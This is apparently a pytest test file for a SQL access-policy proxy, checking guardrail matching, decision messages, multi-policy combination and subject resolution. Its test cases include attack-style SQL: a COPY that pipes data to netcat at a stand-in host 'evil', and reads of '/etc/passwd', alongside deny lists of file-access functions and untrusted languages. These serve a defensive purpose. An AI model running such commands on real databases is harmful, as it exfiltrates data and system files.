"""Decisions: guardrails, defaultAction, subjects, and how decisions combine."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

import pytest

from steward_proxy.policy import (
    Decision,
    Identity,
    PolicySet,
    compile_documents,
    decide,
)

ORDERS_APP = """\
apiVersion: steward.dev/v1alpha1
kind: DatabaseAccessPolicy
metadata: {name: orders-app, namespace: shop}
spec:
  subjects:
    - {kind: ServiceAccount, name: orders}
    - {kind: ServiceAccount, name: billing, namespace: finance}
    - {kind: Group, name: data-analysts}
    - {kind: User, name: alice@example.com}
  defaultAction: allow
  guardrails:
    - name: no-unbounded-writes
      match: {statements: [UPDATE, DELETE], withoutWhere: true}
      action: deny
      message: "UPDATE/DELETE needs a WHERE clause"
    - name: schema-changes-need-review
      match: {statements: [DROP, TRUNCATE, ALTER, CREATE, GRANT, REVOKE]}
      action: review
    - name: payments-read-only
      match: {statements: [INSERT, UPDATE, DELETE, MERGE], tables: ["public.payments"]}
      action: deny
    - name: no-file-access
      match: {functions: [pg_read_file, pg_read_binary_file, lo_export, lo_import, dblink]}
      action: deny
    - name: audit-secrets
      match: {tables: ["vault.*", "secrets"]}
      action: log
    - name: no-admin-functions
      match: {functions: ["pg_catalog.pg_terminate_*"]}
      action: deny
  approval:
    approvers: [{kind: Group, name: dba}]
"""

LOCKED_DOWN = """\
apiVersion: steward.dev/v1alpha1
kind: DatabaseAccessPolicy
metadata: {name: analysts, namespace: shop}
spec:
  subjects: [{kind: Group, name: data-analysts}]
  defaultAction: deny
  guardrails:
    - name: reads
      match: {statements: [SELECT]}
      action: allow
"""


def compile_yaml(*texts: str) -> PolicySet:
    import yaml

    return compile_documents([yaml.safe_load(t) for t in texts])


@dataclass(frozen=True)
class Op:
    command: str
    table: str | None = None
    unbounded: bool = False
    copy: str | None = None
    language: str | None = None


@dataclass(frozen=True)
class Stmt:
    """A statement; unless ``ops`` are given, one operation of ``command`` per table."""

    command: str
    tables: tuple[str, ...] = ()
    functions: tuple[str, ...] = ()
    has_where: bool = True
    settings: tuple[tuple[str, str | None], ...] = ()
    ops: tuple[Op, ...] = ()

    @property
    def operations(self) -> tuple[Op, ...]:
        if self.ops:
            return self.ops
        unbounded = not self.has_where and self.command in ("UPDATE", "DELETE")
        return tuple(Op(self.command, t, unbounded) for t in self.tables or (None,))


ORDERS = compile_yaml(ORDERS_APP).policies

GUARDRAIL_CASES: list[tuple[str, Stmt, str, str | None]] = [
    ("UPDATE without WHERE is denied by no-unbounded-writes",
     Stmt("UPDATE", ("public.orders",), has_where=False), "deny", "no-unbounded-writes"),
    ("DELETE without WHERE is denied by no-unbounded-writes",
     Stmt("DELETE", ("public.orders",), has_where=False), "deny", "no-unbounded-writes"),
    ("a DELETE inside WITH without WHERE is denied by no-unbounded-writes",
     Stmt("SELECT", ops=(Op("SELECT"), Op("DELETE", "public.orders", unbounded=True))),
     "deny", "no-unbounded-writes"),
    ("UPDATE with WHERE falls through to defaultAction allow",
     Stmt("UPDATE", ("public.orders",)), "allow", None),
    ("DROP needs review by schema-changes-need-review",
     Stmt("DROP", ("public.orders",)), "review", "schema-changes-need-review"),
    ("CREATE needs review by schema-changes-need-review",
     Stmt("CREATE", ("public.t",)), "review", "schema-changes-need-review"),
    ("INSERT into payments is denied by payments-read-only",
     Stmt("INSERT", ("public.payments",)), "deny", "payments-read-only"),
    ("UPDATE of payments with WHERE is denied by payments-read-only",
     Stmt("UPDATE", ("public.payments",)), "deny", "payments-read-only"),
    ("an unqualified payments table counts as public.payments",
     Stmt("DELETE", ("payments",)), "deny", "payments-read-only"),
    ("SELECT from payments is allowed",
     Stmt("SELECT", ("public.payments",)), "allow", None),
    ("INSERT into another schema's payments is allowed",
     Stmt("INSERT", ("archive.payments",)), "allow", None),
    ("pg_read_file is denied by no-file-access",
     Stmt("SELECT", functions=("pg_read_file",)), "deny", "no-file-access"),
    ("a schema-qualified lo_import is denied by no-file-access",
     Stmt("SELECT", functions=("pg_catalog.lo_import",)), "deny", "no-file-access"),
    ("reading vault tables is logged by audit-secrets",
     Stmt("SELECT", ("vault.keys",)), "log", "audit-secrets"),
    ("an unqualified glob pattern means the public schema",
     Stmt("SELECT", ("public.secrets",)), "log", "audit-secrets"),
    ("an unqualified pattern does not match another schema",
     Stmt("SELECT", ("other.secrets",)), "allow", None),
    ("a qualified function glob matches a qualified call",
     Stmt("SELECT", functions=("pg_catalog.pg_terminate_backend",)), "deny", "no-admin-functions"),
    ("a qualified function glob does not match an unqualified call",
     Stmt("SELECT", functions=("pg_terminate_backend",)), "allow", None),
    ("a plain SELECT is allowed by defaultAction",
     Stmt("SELECT", ("public.orders",)), "allow", None),
    ("the first matching guardrail wins: DELETE from payments without WHERE",
     Stmt("DELETE", ("public.payments",), has_where=False), "deny", "no-unbounded-writes"),
    ("the first matching guardrail wins even when a later one is stricter",
     Stmt("SELECT", ("vault.keys",), functions=("pg_read_file",)), "deny", "no-file-access"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("statement", "action", "rule"),
    [pytest.param(s, a, r, id=name) for name, s, a, r in GUARDRAIL_CASES],
)
def test_guardrails_of_one_policy(statement: Stmt, action: str, rule: str | None) -> None:
    decision = decide(ORDERS, [statement])
    assert (decision.action, decision.rule) == (action, rule)
    assert decision.policy == "shop/orders-app"


def test_the_first_matching_guardrail_wins_over_a_stricter_later_one() -> None:
    policies = compile_yaml(
        LOCKED_DOWN.replace(
            "      action: allow\n",
            "      action: allow\n    - name: never\n      match: {statements: [SELECT]}\n"
            "      action: deny\n",
        )
    ).policies
    assert decide(policies, [Stmt("SELECT")]).rule == "reads"


@pytest.mark.parametrize(
    ("statement", "expected"),
    [
        pytest.param(
            Stmt("UPDATE", has_where=False),
            Decision(
                "deny",
                "shop/orders-app",
                "no-unbounded-writes",
                "statement denied by policy shop/orders-app rule no-unbounded-writes: "
                "UPDATE/DELETE needs a WHERE clause",
            ),
            id="a guardrail denial names policy, rule and message",
        ),
        pytest.param(
            Stmt("INSERT", ("public.payments",)),
            Decision(
                "deny",
                "shop/orders-app",
                "payments-read-only",
                "statement denied by policy shop/orders-app rule payments-read-only",
            ),
            id="a guardrail denial without message names policy and rule",
        ),
        pytest.param(
            Stmt("DROP"),
            Decision(
                "review",
                "shop/orders-app",
                "schema-changes-need-review",
                "statement held for review by policy shop/orders-app "
                "rule schema-changes-need-review",
            ),
            id="a review names policy and rule",
        ),
        pytest.param(
            Stmt("SELECT"),
            Decision(
                "allow",
                "shop/orders-app",
                None,
                "statement allowed by policy shop/orders-app (defaultAction: allow)",
            ),
            id="a default allow names the policy",
        ),
    ],
)
def test_decision_messages(statement: Stmt, expected: Decision) -> None:
    assert decide(ORDERS, [statement]) == expected


def test_default_deny_message_names_the_policy() -> None:
    policies = compile_yaml(LOCKED_DOWN).policies
    assert decide(policies, [Stmt("INSERT")]) == Decision(
        "deny",
        "shop/analysts",
        None,
        "statement denied by policy shop/analysts (defaultAction: deny)",
    )


COMBINED_CASES: list[tuple[str, list[Stmt], str, str | None, str | None]] = [
    ("a denied part denies the whole statement string",
     [Stmt("SELECT"), Stmt("DELETE", has_where=False), Stmt("SELECT")],
     "deny", "shop/orders-app", "no-unbounded-writes"),
    ("review beats log and allow across parts",
     [Stmt("SELECT", ("vault.keys",)), Stmt("ALTER"), Stmt("SELECT")],
     "review", "shop/orders-app", "schema-changes-need-review"),
    ("deny beats review across parts whatever the order",
     [Stmt("ALTER"), Stmt("INSERT", ("public.payments",))],
     "deny", "shop/orders-app", "payments-read-only"),
    ("log beats allow across parts",
     [Stmt("SELECT"), Stmt("SELECT", ("vault.keys",))], "log", "shop/orders-app", "audit-secrets"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("statements", "action", "policy", "rule"),
    [pytest.param(s, a, p, r, id=name) for name, s, a, p, r in COMBINED_CASES],
)
def test_several_statements_combine_to_the_most_restrictive(
    statements: list[Stmt], action: str, policy: str | None, rule: str | None
) -> None:
    decision = decide(ORDERS, statements)
    assert (decision.action, decision.policy, decision.rule) == (action, policy, rule)


BOTH = compile_yaml(ORDERS_APP, LOCKED_DOWN)
ANALYST = Identity("user:bob", ("data-analysts",))

MULTI_POLICY_CASES: list[tuple[str, Stmt, str, str, str | None]] = [
    ("an INSERT allowed by one policy is denied by the other's defaultAction",
     Stmt("INSERT", ("public.orders",)), "deny", "shop/analysts", None),
    ("a SELECT allowed by both is allowed", Stmt("SELECT", ("public.orders",)), "allow",
     "shop/analysts", "reads"),
    ("a logged SELECT stays logged though the other policy allows it",
     Stmt("SELECT", ("vault.keys",)), "log", "shop/orders-app", "audit-secrets"),
    ("a review in one policy loses to a default deny in the other",
     Stmt("DROP"), "deny", "shop/analysts", None),
]  # fmt: skip


@pytest.mark.parametrize(
    ("statement", "action", "policy", "rule"),
    [pytest.param(s, a, p, r, id=name) for name, s, a, p, r in MULTI_POLICY_CASES],
)
def test_several_policies_combine_to_the_most_restrictive(
    statement: Stmt, action: str, policy: str, rule: str | None
) -> None:
    policies = BOTH.policies_for(ANALYST)
    assert [p.key for p in policies] == ["shop/analysts", "shop/orders-app"]
    decision = decide(policies, [statement])
    assert (decision.action, decision.policy, decision.rule) == (action, policy, rule)


def test_no_policies_means_deny() -> None:
    assert decide([], [Stmt("SELECT")]).action == "deny"


def test_an_empty_query_is_allowed() -> None:
    assert decide(ORDERS, []).action == "allow"


SUBJECT_CASES: list[tuple[str, Identity, list[str]]] = [
    ("a service account in the policy's namespace is covered by a subject without namespace",
     Identity("system:serviceaccount:shop:orders"), ["shop/orders-app"]),
    ("the same service account name in another namespace is not covered",
     Identity("system:serviceaccount:other:orders"), []),
    ("a service account with an explicit namespace is covered there",
     Identity("system:serviceaccount:finance:billing"), ["shop/orders-app"]),
    ("an explicit namespace does not default to the policy's",
     Identity("system:serviceaccount:shop:billing"), []),
    ("a user is covered by a User subject", Identity("user:alice@example.com"),
     ["shop/orders-app"]),
    ("another user is not covered", Identity("user:mallory"), []),
    ("a group member is covered by both Group policies", Identity("user:bob", ("data-analysts",)),
     ["shop/analysts", "shop/orders-app"]),
    ("a group given with its group: prefix counts",
     Identity("user:bob", ("group:data-analysts",)), ["shop/analysts", "shop/orders-app"]),
    ("a user named like a group is not a group member", Identity("user:data-analysts"), []),
    ("a service account name is not a user", Identity("user:orders"), []),
]  # fmt: skip


@pytest.mark.parametrize(
    ("identity", "keys"),
    [pytest.param(i, k, id=name) for name, i, k in SUBJECT_CASES],
)
def test_subject_matching(identity: Identity, keys: list[str]) -> None:
    assert [p.key for p in BOTH.policies_for(identity)] == keys


@pytest.mark.parametrize(
    "subject",
    ["alice", "user:", "system:serviceaccount:shop", "system:serviceaccount::x", "group:dba"],
)
def test_invalid_subjects_are_rejected(subject: str) -> None:
    with pytest.raises(ValueError, match="invalid subject"):
        Identity(subject)


def test_approvers_and_exemptions_resolve_like_subjects() -> None:
    text = ORDERS_APP.replace(
        "  approval:\n",
        "  masking:\n    exemptSubjects: [{kind: ServiceAccount, name: reporter}]\n  approval:\n",
    )
    (policy,) = compile_yaml(text).policies
    assert policy.may_approve(Identity("user:carol", ("dba",)))
    assert not policy.may_approve(Identity("user:carol"))
    assert policy.is_exempt_from_masking(Identity("system:serviceaccount:shop:reporter"))
    assert policy.approval_ttl_seconds == 900


def _hash(*texts: str) -> str:
    return compile_yaml(*texts).compiled_hash


def test_compiled_hash_is_stable_and_order_independent() -> None:
    assert len(_hash(ORDERS_APP)) == 64
    assert _hash(ORDERS_APP, LOCKED_DOWN) == _hash(LOCKED_DOWN, ORDERS_APP)


def test_compiled_hash_changes_with_content() -> None:
    assert _hash(ORDERS_APP) != _hash(
        ORDERS_APP.replace("defaultAction: allow", "defaultAction: deny")
    )


def test_compiled_hash_ignores_formatting_that_compiles_the_same() -> None:
    approvers = "    approvers: [{kind: Group, name: dba}]\n"
    explicit = ORDERS_APP.replace(approvers, f"{approvers}    ttl: 15m\n")
    assert _hash(ORDERS_APP) == _hash(explicit)


def test_decisions_on_real_analysis() -> None:
    from steward_proxy.sql import analyze

    cases: dict[str, tuple[str, Any]] = {
        "UPDATE orders SET total = 0": ("deny", "no-unbounded-writes"),
        "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d": (
            "deny",
            "no-unbounded-writes",
        ),
        "EXPLAIN ANALYZE DELETE FROM orders": ("deny", "no-unbounded-writes"),
        "SELECT * INTO t2 FROM orders": ("review", "schema-changes-need-review"),
        "SELECT pg_read_file('/etc/passwd')": ("deny", "no-file-access"),
        "SELECT 1; TRUNCATE orders": ("review", "schema-changes-need-review"),
        "UPDATE orders SET total = 0 WHERE id = 1": ("allow", None),
    }
    for sql, expected in cases.items():
        decision = decide(ORDERS, analyze(sql))
        assert (decision.action, decision.rule) == expected, sql


OPERATIONS_POLICY = """\
apiVersion: steward.dev/v1alpha1
kind: DatabaseAccessPolicy
metadata: {name: ops, namespace: shop}
spec:
  subjects: [{kind: Group, name: data-analysts}]
  defaultAction: deny
  guardrails:
    - {name: no-server-copy, match: {copy: [file, program]}, action: deny}
    - {name: no-untrusted-code, match: {languages: ["pl*u", c]}, action: deny}
    - {name: no-dynamic-sql, match: {statements: [DYNAMIC]}, action: deny}
    - {name: payments-read-only, match: {statements: [INSERT, UPDATE, DELETE], tables: [payments]},
       action: deny}
    - {name: unbounded-orders, match: {tables: [orders], withoutWhere: true}, action: review}
    - {name: reads, match: {statements: [SELECT]}, action: allow}
    - {name: writes-to-orders, match: {statements: [INSERT, UPDATE, DELETE, MERGE],
       tables: [orders]}, action: allow}
    - {name: client-copy, match: {statements: [COPY], copy: [stdio]}, action: allow}
    - {name: code, match: {statements: [DO, CREATE], languages: [plpgsql, sql]}, action: log}
  approval:
    approvers: [{kind: Group, name: dba}]
"""

OPERATION_CASES: list[tuple[str, str, str, str | None]] = [
    ("a read is allowed", "SELECT * FROM orders", "allow", "reads"),
    ("an allowed SELECT does not allow the DELETE in its WITH",
     "WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d", "deny", None),
    ("an allowed read does not allow an INSERT that reads",
     "INSERT INTO customers SELECT * FROM orders", "deny", None),
    ("statements and tables must match one operation: INSERT elsewhere reading payments",
     "INSERT INTO orders SELECT * FROM payments", "allow", "writes-to-orders"),
    ("statements and tables in one operation: INSERT into payments",
     "INSERT INTO payments SELECT * FROM orders", "deny", "payments-read-only"),
    ("a MERGE's DELETE action that matches every row is an unbounded write",
     "MERGE INTO orders o USING orders s ON true WHEN MATCHED THEN DELETE", "review",
     "unbounded-orders"),
    ("an unbounded write to orders needs review, also through EXPLAIN ANALYZE",
     "EXPLAIN ANALYZE UPDATE orders SET total = 0 WHERE 1 = 1", "deny", None),
    ("a bounded write to orders is allowed", "UPDATE orders SET total = 0 WHERE id = 1", "allow",
     "writes-to-orders"),
    ("an unbounded write to orders is held for review",
     "DELETE FROM orders WHERE true", "review", "unbounded-orders"),
    ("COPY to the client is allowed", "COPY orders TO STDOUT", "allow", "client-copy"),
    ("COPY to a server program is denied", "COPY orders TO PROGRAM 'nc evil 1'", "deny",
     "no-server-copy"),
    ("COPY from a server file is denied", "COPY orders FROM '/etc/passwd'", "deny",
     "no-server-copy"),
    ("a DO block in PL/pgSQL is logged, its reads allowed",
     "DO $$ BEGIN PERFORM count(*) FROM orders; END $$", "log", "code"),
    ("a DO block in PL/pgSQL that writes payments is denied",
     "DO $$ BEGIN DELETE FROM payments WHERE id = 1; END $$", "deny", "payments-read-only"),
    ("a DO block in an untrusted language is denied",
     "DO LANGUAGE plpython3u $$ plpy.execute('SELECT 1') $$", "deny", "no-untrusted-code"),
    ("a C function is denied", "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'f'",
     "deny", "no-untrusted-code"),
    ("query_to_xml is denied as DYNAMIC",
     "SELECT query_to_xml('SELECT 1', true, false, '')", "deny", "no-dynamic-sql"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("sql", "action", "rule"),
    [pytest.param(s, a, r, id=name) for name, s, a, r in OPERATION_CASES],
)
def test_each_operation_is_judged_and_the_strictest_wins(
    sql: str, action: str, rule: str | None
) -> None:
    from steward_proxy.sql import analyze

    policies = compile_yaml(OPERATIONS_POLICY).policies
    decision = decide(policies, analyze(sql))
    assert (decision.action, decision.rule) == (action, rule)


def test_a_statement_without_operations_is_one_operation_of_its_command() -> None:
    @dataclass(frozen=True)
    class Bare:
        command: str = "FUNCTION CALL"
        operations: tuple[Op, ...] = ()
        tables: tuple[str, ...] = ()
        functions: tuple[str, ...] = ()
        settings: tuple[tuple[str, str | None], ...] = ()

    policies = compile_yaml(LOCKED_DOWN).policies
    assert decide(policies, [Bare()]).action == "deny"
    assert decide(policies, [Bare(command="SELECT")]).rule == "reads"
